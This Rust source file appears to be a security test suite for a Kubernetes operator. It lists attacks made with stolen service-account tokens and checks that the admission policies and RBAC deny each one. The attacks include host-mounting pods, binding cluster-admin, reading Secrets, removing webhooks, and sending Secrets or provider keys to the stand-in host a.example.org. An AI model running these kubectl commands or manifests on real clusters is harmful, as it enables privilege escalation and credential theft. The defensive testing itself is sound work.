//! Attacks with the accounts of the installation, as somebody would make them who has stolen a token.

use super::case::{Case, create, kubectl};
use super::site::User::{Cache, Gateway, Operator, OperatorRoot, Server, Webhook};

/// A restricted pod of the operator, with more metadata, more of its spec, and more of its container.
macro_rules! pod {
    ($metadata:literal, $spec:literal, $container:literal) => {
        concat!(
            "apiVersion: v1\nkind: Pod\nmetadata: {name: attack, ",
            $metadata,
            "}\nspec: {",
            $spec,
            ", automountServiceAccountToken: false, securityContext: {runAsNonRoot: true, runAsUser: 10001, ",
            "seccompProfile: {type: RuntimeDefault}}, containers: [{name: a, image: attack, ",
            $container,
            ", securityContext: {allowPrivilegeEscalation: false, capabilities: {drop: [ALL]}}}]}\n"
        )
    };
}

/// A RoleBinding, with its metadata and the name of its ClusterRole.
macro_rules! binding {
    ($metadata:literal, $role:literal) => {
        concat!(
            "apiVersion: rbac.authorization.k8s.io/v1\nkind: RoleBinding\nmetadata: {",
            $metadata,
            "}\nroleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: ",
            $role,
            "}\nsubjects: [{apiGroup: rbac.authorization.k8s.io, kind: User, name: mallory}]\n"
        )
    };
}

/// The attacks. Those of [`OperatorRoot`] have all rights of RBAC, so that the admission policies stop them.
pub(super) const CASES: &[Case] = &[
    create(
        "OPR-E1",
        "pod-outside-of-tenants",
        "run a pod in the cluster's own namespace",
        OperatorRoot,
        pod!("namespace: kube-system, labels: {enact.dev/tenant: a}", "restartPolicy: Never", "args: []"),
        &["the operator creates pods in namespaces of tenants only"],
    ),
    create(
        "OPR-E1",
        "pod-beside-the-installation",
        "run a pod in the namespace of the installation",
        OperatorRoot,
        pod!("namespace: %system, labels: {enact.dev/tenant: a}", "restartPolicy: Never", "args: []"),
        &["the operator creates pods in namespaces of tenants only"],
    ),
    create(
        "OPR-E1",
        "pod-without-a-tenant",
        "run a pod that no tenant accounts for",
        OperatorRoot,
        pod!("namespace: %own, labels: {a: b}", "restartPolicy: Never", "args: []"),
        &["the operator creates no pod without the label enact.dev/tenant"],
    ),
    create(
        "OPR-E2",
        "pod-with-another-account",
        "run a pod with another service account",
        OperatorRoot,
        pod!("namespace: %own, labels: {enact.dev/tenant: %own}", "serviceAccountName: enact-reader", "args: []"),
        &["runs as the service account default"],
    ),
    create(
        "OPR-E2",
        "pod-with-a-token-for-the-api-server",
        "mount a token for the API server",
        OperatorRoot,
        pod!(
            "namespace: %own, labels: {enact.dev/tenant: %own}",
            "volumes: [{name: t, projected: {sources: [{serviceAccountToken: {path: t, audience: 'https://kubernetes.default.svc'}}]}}]",
            "args: []"
        ),
        &["has tokens for Enact's own services only"],
    ),
    create(
        "OPR-E3",
        "pod-on-the-hosts-network",
        "use the network of the node",
        OperatorRoot,
        pod!("namespace: %own, labels: {enact.dev/tenant: %own}", "hostNetwork: true", "args: []"),
        &["uses nothing of its node|PodSecurity"],
    ),
    create(
        "OPR-E3",
        "pod-with-a-folder-of-the-host",
        "mount a folder of the node",
        OperatorRoot,
        pod!(
            "namespace: %own, labels: {enact.dev/tenant: %own}",
            "volumes: [{name: h, hostPath: {path: /}}]",
            "args: []"
        ),
        &["uses nothing of its node|PodSecurity"],
    ),
    create(
        "OPR-E3",
        "pod-with-a-port-of-the-host",
        "listen on a port of the node",
        OperatorRoot,
        pod!(
            "namespace: %own, labels: {enact.dev/tenant: %own}",
            "restartPolicy: Never",
            "ports: [{containerPort: 8080, hostPort: 8080}]"
        ),
        &["the containers of a pod of the operator are restricted|PodSecurity"],
    ),
    create(
        "OPR-E3",
        "pod-on-a-chosen-node",
        "choose the node of a pod, past the scheduler",
        OperatorRoot,
        pod!("namespace: %own, labels: {enact.dev/tenant: %own}", "nodeName: a", "args: []"),
        &["names no node"],
    ),
    create(
        "OPR-E3",
        "pod-without-apparmor",
        "run a pod that AppArmor does not confine",
        OperatorRoot,
        pod!(
            "namespace: %own, labels: {enact.dev/tenant: %own}, \
             annotations: {container.apparmor.security.beta.kubernetes.io/a: unconfined}",
            "restartPolicy: Never",
            "args: []"
        ),
        &["AppArmor confines a pod of the operator|PodSecurity|appArmorProfile"],
    ),
    kubectl(
        "OPR-T1",
        "change-an-image",
        "replace the image of a running pod",
        OperatorRoot,
        "set image --namespace=%own pod/probe-t001-1 agent=attack --dry-run=server",
        &["the operator does not change the image of a pod"],
    ),
    kubectl(
        "OPR-D1",
        "delete-pods-of-others",
        "delete the webhook's pods",
        OperatorRoot,
        "delete pods --namespace=%system --selector=app.kubernetes.io/component=webhook --dry-run=server",
        &["deletes only pods with the label enact.dev/tenant"],
    ),
    kubectl(
        "OPR-E4",
        "take-the-clusters-namespace",
        "give the cluster's own namespace to a tenant",
        OperatorRoot,
        "label namespace kube-system enact.dev/tenant=%own --dry-run=server",
        &["the operator changes only namespaces of tenants"],
    ),
    kubectl(
        "OPR-E4",
        "consent-in-the-owners-name",
        "allow another tenant to own a namespace",
        OperatorRoot,
        "annotate namespace %own --overwrite enact.dev/allow-tenant=%other --dry-run=server",
        &["the operator does not change which tenant can own a namespace"],
    ),
    create(
        "OPR-E5",
        "binding-outside-of-tenants",
        "give rights in the cluster's own namespace",
        OperatorRoot,
        binding!("name: enact-tenant-owner, namespace: kube-system", "enact-tenant-owner"),
        &["in namespaces of tenants only"],
    ),
    create(
        "OPR-E5",
        "binding-of-another-name",
        "add a binding that no Tenant describes",
        OperatorRoot,
        binding!("name: mine, namespace: %own", "enact-tenant-owner"),
        &["the operator creates and changes only the objects of a tenant"],
    ),
    create(
        "OPR-E5",
        "binding-of-another-role",
        "bind the role cluster-admin in a tenant's namespace",
        Operator,
        binding!("name: enact-tenant, namespace: %own", "cluster-admin"),
        &["not currently held|cannot bind|attempting to grant"],
    ),
    kubectl(
        "OPR-D1",
        "delete-bindings-of-others",
        "delete a binding that others created",
        OperatorRoot,
        "delete rolebinding --namespace=%own editors-enact-edit --dry-run=server",
        &["the operator deletes only objects that it created"],
    ),
    kubectl(
        "OPR-I1",
        "operator-reads-secrets",
        "read the Secrets of a tenant as the operator",
        Operator,
        "get secrets --namespace=%own",
        &["cannot list resource \"secrets\""],
    ),
    kubectl(
        "OPR-I1",
        "operator-reads-its-own-secrets",
        "read the login of Postgres from the API as the operator",
        Operator,
        "get secrets --namespace=%system",
        &["cannot list resource \"secrets\""],
    ),
    kubectl(
        "OPR-E6",
        "operator-makes-tokens",
        "create a token of another account",
        Operator,
        "create token default --namespace=kube-system",
        &["cannot create resource \"serviceaccounts/token\""],
    ),
    kubectl(
        "OPR-E6",
        "operator-binds-for-the-cluster",
        "become administrator of the cluster",
        Operator,
        "create clusterrolebinding attack --clusterrole=cluster-admin --user=mallory --dry-run=server",
        &["cannot create resource \"clusterrolebindings\""],
    ),
    kubectl(
        "OPR-E6",
        "operator-removes-the-webhook",
        "remove the webhook that admits objects",
        Operator,
        "delete validatingwebhookconfigurations enact --dry-run=server",
        &["cannot delete resource \"validatingwebhookconfigurations\""],
    ),
    kubectl(
        "OPR-E6",
        "operator-removes-its-limits",
        "remove an admission policy that limits the operator",
        Operator,
        "delete validatingadmissionpolicies --all --dry-run=server",
        &["cannot list resource \"validatingadmissionpolicies\"|cannot delete resource"],
    ),
    create(
        "OPR-S1",
        "operator-decides",
        "approve as the operator",
        Operator,
        "apiVersion: enact.dev/v1alpha1\nkind: Approval\nmetadata: {name: robot, namespace: %own}\n\
         spec: {subject: {kind: Plan, name: held}, digest: '%digest', decision: Approve}\n",
        &["cannot create resource \"approvals\""],
    ),
    kubectl(
        "OPR-S2",
        "take-the-lease",
        "take the operator's Lease, so that no operator leads",
        Server,
        "patch lease enact-operator --namespace=%system --type=merge --patch={\"spec\":{\"holderIdentity\":\"mallory\"}} --dry-run=server",
        &["cannot patch resource \"leases\"|cannot get resource \"leases\""],
    ),
    kubectl(
        "SRV-E2",
        "server-reads-secrets",
        "read the Secrets of a tenant as the server",
        Server,
        "get secrets --namespace=%own",
        &["cannot list resource \"secrets\""],
    ),
    kubectl(
        "SRV-E2",
        "server-runs-pods",
        "run a pod as the server",
        Server,
        "run attack --image=attack --namespace=%own --dry-run=server",
        &["cannot create resource \"pods\""],
    ),
    kubectl(
        "SRV-E2",
        "server-writes-statuses",
        "write a status as the server",
        Server,
        "patch plan held --namespace=%own --subresource=status --type=merge --patch={\"status\":{\"phase\":\"Succeeded\"}} --dry-run=server",
        &["cannot patch resource|cannot get resource"],
    ),
    kubectl(
        "ADM-I3",
        "webhook-reads-secrets",
        "read the Secrets of a tenant as the webhook",
        Webhook,
        "get secrets --namespace=%own",
        &["cannot list resource \"secrets\""],
    ),
    kubectl(
        "ADM-E9",
        "webhook-changes-its-rules",
        "admit everything while the webhook fails, with the webhook's account",
        Webhook,
        "patch validatingwebhookconfigurations enact --type=json --patch=[{\"op\":\"replace\",\"path\":\"/webhooks/0/failurePolicy\",\"value\":\"Ignore\"}] --dry-run=server",
        &["the webhook changes nothing of its configurations|cannot patch resource|cannot get resource"],
    ),
    kubectl(
        "ADM-E9",
        "webhook-reads-all-requests",
        "send every Secret that is written to another server, with the webhook's account",
        Webhook,
        "patch mutatingwebhookconfigurations enact --type=json --patch=[{\"op\":\"add\",\"path\":\"/webhooks/-\",\"value\":\
         {\"name\":\"a.example.org\",\"sideEffects\":\"None\",\"admissionReviewVersions\":[\"v1\"],\"failurePolicy\":\"Ignore\",\
         \"clientConfig\":{\"url\":\"https://a.example.org\"},\
         \"rules\":[{\"apiGroups\":[\"\"],\"apiVersions\":[\"v1\"],\"operations\":[\"CREATE\"],\"resources\":[\"secrets\"]}]}}] \
         --dry-run=server",
        &["the webhook changes nothing of its configurations|cannot patch resource|cannot get resource"],
    ),
    create(
        "ADM-E9",
        "webhook-makes-a-token",
        "create a Secret with a token of the operator's account, with the webhook's account",
        Webhook,
        "apiVersion: v1\nkind: Secret\ntype: kubernetes.io/service-account-token\n\
         metadata: {name: %own-token, namespace: %system, annotations: {kubernetes.io/service-account.name: %operator}}\n",
        &["the webhook writes only its own Secret|cannot create resource \"secrets\""],
    ),
    kubectl(
        "GWY-I1",
        "gateway-reads-other-secrets",
        "read a Secret that has no keys of models as the gateway",
        Gateway,
        "get secret theirs --namespace=%other",
        &["cannot get resource \"secrets\""],
    ),
    kubectl(
        "GWY-E6",
        "gateway-runs-pods",
        "run a pod as the gateway",
        Gateway,
        "run attack --image=attack --namespace=%own --dry-run=server",
        &["cannot create resource \"pods\""],
    ),
    kubectl(
        "GWY-E6",
        "gateway-changes-a-provider",
        "send the keys of a provider elsewhere, with the gateway's account",
        Gateway,
        "patch modelprovider inside --namespace=%own --type=merge --patch={\"spec\":{\"baseUrl\":\"https://a.example.org\"}} --dry-run=server",
        &["cannot patch resource \"modelproviders\""],
    ),
    kubectl(
        "GIT-E3",
        "cache-reads-secrets",
        "read the credential of a repository as the clone cache",
        Cache,
        "get secrets --namespace=%own",
        &["cannot list resource \"secrets\""],
    ),
    kubectl(
        "GIT-E3",
        "cache-runs-pods",
        "run a pod as the clone cache",
        Cache,
        "run attack --image=attack --namespace=%own --dry-run=server",
        &["cannot create resource \"pods\""],
    ),
];
